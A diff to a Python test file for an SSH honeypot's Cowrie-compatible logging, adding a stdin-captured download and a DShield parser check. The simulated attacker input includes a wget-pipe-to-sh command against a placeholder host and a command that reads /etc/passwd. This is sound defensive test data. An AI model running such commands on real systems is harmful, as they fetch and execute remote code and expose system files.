@@ -58,20 +58,25 @@ def visit() -> list[Event]:
         ),
         events.ChannelResize(channel=0, width=100, height=30, **IDS),
         events.ChannelStarted(channel=1, kind="exec", command="cat > /tmp/x", recording="d/s/1.cast", **IDS),
+        events.FileWritten(container_id="b", channel=1, path="/tmp/x", size=3, sha256=SHA, **IDS),
         events.ArtifactStored(
             container_id="b", channel=1, sha256=SHA, sha1="", md5="", size=3, path="/tmp/x", source="written", known=True, **IDS
         ),
-        events.FileWritten(container_id="b", channel=1, path="/tmp/x", size=3, sha256=SHA, **IDS),
         events.FileWritten(container_id="b", channel=1, path="/tmp/empty", size=0, **IDS),
         events.ChannelStarted(channel=2, kind="subsystem", command="sftp", **IDS),
         events.FileWritten(container_id="b", channel=2, path="/tmp/up.bin", size=3, sha256=SHA, **IDS),
         events.ChannelStarted(channel=3, kind="exec", command="scp -t /tmp", **IDS),
         events.FileWritten(container_id="b", channel=3, path="/tmp/cp.bin", size=3, sha256=SHA, **IDS),
-        events.ForwardRequested(
-            kind="direct-tcpip", host="203.0.113.5", port=443, origin_host="127.0.0.1", origin_port=5, accepted=True, **IDS
+        events.FileWritten(container_id="b", channel=1, path="", size=3, sha256="cd" * 32, **IDS),
+        events.ArtifactStored(
+            container_id="b", channel=1, sha256="cd" * 32, sha1="", md5="", size=3, path="", source="input", known=False, **IDS
         ),
-        events.ForwardData(forward=0, direction="in", data="\\x16\\x03\\xff", size=3, **IDS),
-        events.ForwardTLS(forward=0, ja4="t13d1516h2_8daaf6152771_b186095e22b6", **IDS),
+        events.ForwardRequested(
+            kind="direct-tcpip", host="203.0.113.5", port=443, origin_host="127.0.0.1", origin_port=5, accepted=True,
+            forward=1, **IDS,
+        ),
+        events.ForwardData(forward=1, direction="in", data="\\x16\\x03\\xff", size=3, **IDS),
+        events.ForwardTLS(forward=1, ja4="t13d1516h2_8daaf6152771_b186095e22b6", **IDS),
         events.ChannelClosed(channel=0, exit_status=0, duration=1.25, bytes_in=10, bytes_out=200, **IDS),
         events.SessionClosed(cause="client", duration=2.0, channels=4, bytes_in=10, bytes_out=200, **IDS),
         events.ConnectionClosed(cause="client", duration=2.5, auth_attempts=5, channels=4, **early),
@@ -114,7 +119,8 @@ def test_a_visit_in_the_order_and_by_the_names_of_cowrie(journal: Path) -> None:
         "session.connect", "client.version", "client.kex", "client.fingerprint", "login.failed", "login.failed", "login.failed",
         "login.failed", "login.success", "session.params", "client.var", "client.size", "log.open", "command.input",
         "command.input", "session.file_download.failed", "client.size", "log.open", "command.input", "session.file_download",
-        "session.file_upload", "command.input", "session.file_upload", "direct-tcpip.request", "direct-tcpip.data",
+        "session.file_upload", "command.input", "session.file_upload", "session.file_download", "direct-tcpip.request",
+        "direct-tcpip.data",
         "direct-tcpip.ja4", "log.closed", "session.closed", "session.file_download",
     ]  # fmt: skip
 
@@ -171,10 +177,14 @@ def test_what_they_did(journal: Path) -> None:
     ]  # fmt: skip
     failed = only(lines, "session.file_download.failed")
     assert failed["url"] == "http://203.0.113.9/x.sh"
-    redirect, late = [fields(it) for it in lines if it["eventid"] == "cowrie.session.file_download"]
+    redirect, by_stdin, late = [fields(it) for it in lines if it["eventid"] == "cowrie.session.file_download"]
     kept = {"outfile": f"/a/{SHA}", "shasum": SHA}
     assert redirect == {**kept, "duplicate": True, "destfile": "/tmp/x", **CONNECTION}
     assert late == {**redirect, "late": True}
+    assert by_stdin == {
+        "outfile": str(journal.parent / "recordings/d/s/1.cast"), "shasum": "cd" * 32, "duplicate": False, "destfile": "",
+        **CONNECTION,
+    }  # fmt: skip
     by_sftp, by_scp = [fields(it) for it in lines if it["eventid"] == "cowrie.session.file_upload"]
     assert by_sftp == {"filename": "up.bin", **kept, **CONNECTION}
     assert by_scp == {
@@ -188,7 +198,7 @@ def test_where_they_wanted_to_go(journal: Path) -> None:
     lines = written(journal)
     there = {"dst_ip": "203.0.113.5", "dst_port": 443}
     assert fields(only(lines, "direct-tcpip.request")) == {**there, "orig_ip": "127.0.0.1", "orig_port": 5}
-    assert fields(only(lines, "direct-tcpip.data")) == {**there, "data": repr(b"\x16\x03\xff"), "id": 0}
+    assert fields(only(lines, "direct-tcpip.data")) == {**there, "data": repr(b"\x16\x03\xff"), "id": 1}
     assert fields(only(lines, "direct-tcpip.ja4")) == {**there, "ja4": "t13d1516h2_8daaf6152771_b186095e22b6"}
 
 
@@ -293,6 +303,25 @@ def test_honeypot_mitre_reads_it(journal: Path, consumers: Path, tmp_path: Path)
     ]  # fmt: skip
     assert [it["success"] for it in session["login_attempts"]] == [False, False, False, False, True]
     assert session["duration"] == 2.5
-    assert len(session["downloads"]) == 2
+    assert len(session["downloads"]) == 3
     scored = subprocess.run([consumers, "-m", "honeypot_mitre", log], capture_output=True, text=True, check=True, timeout=60)
     assert "192.0.2.7" in scored.stdout
+
+
+def test_dshield_parser_reads_it(journal: Path, consumers: Path, tmp_path: Path) -> None:
+    log = tmp_path / "cowrie.json.2026-01-31"  # it takes what Cowrie has put aside, by its name
+    log.write_bytes(cowrie(journal).lines(records(journal)))
+    script = (
+        "import json, sys; from dshield_parser.cowrie_processor import reports as r; log = sys.argv[1]; print(json.dumps(["
+        "r.get_summary_usernames(log), r.get_summary_src_passwords(log), r.get_summary_src_ip(log), r.get_summary_input(log),"
+        "r.get_top_10_files_created(log)]))"
+    )
+    done = subprocess.run([consumers, "-c", script, log], capture_output=True, text=True, check=True, timeout=60)
+    names, passwords, addresses, inputs, files = json.loads(done.stdout)
+    assert names == {"username": {"root": 6}}
+    assert passwords == {"password": {"w\\x07rong": 1, "one": 1, "two": 1, "root": 1}}
+    assert addresses == {"src_ip": {"192.0.2.7": len(written(journal))}}
+    assert set(inputs["input"]) == {
+        "uname -a; cat /etc/passwd", "wget http://203.0.113.9/x.sh -O- | sh", "cat > /tmp/x", "scp -t /tmp"
+    }  # fmt: skip
+    assert files[SHA] == 4
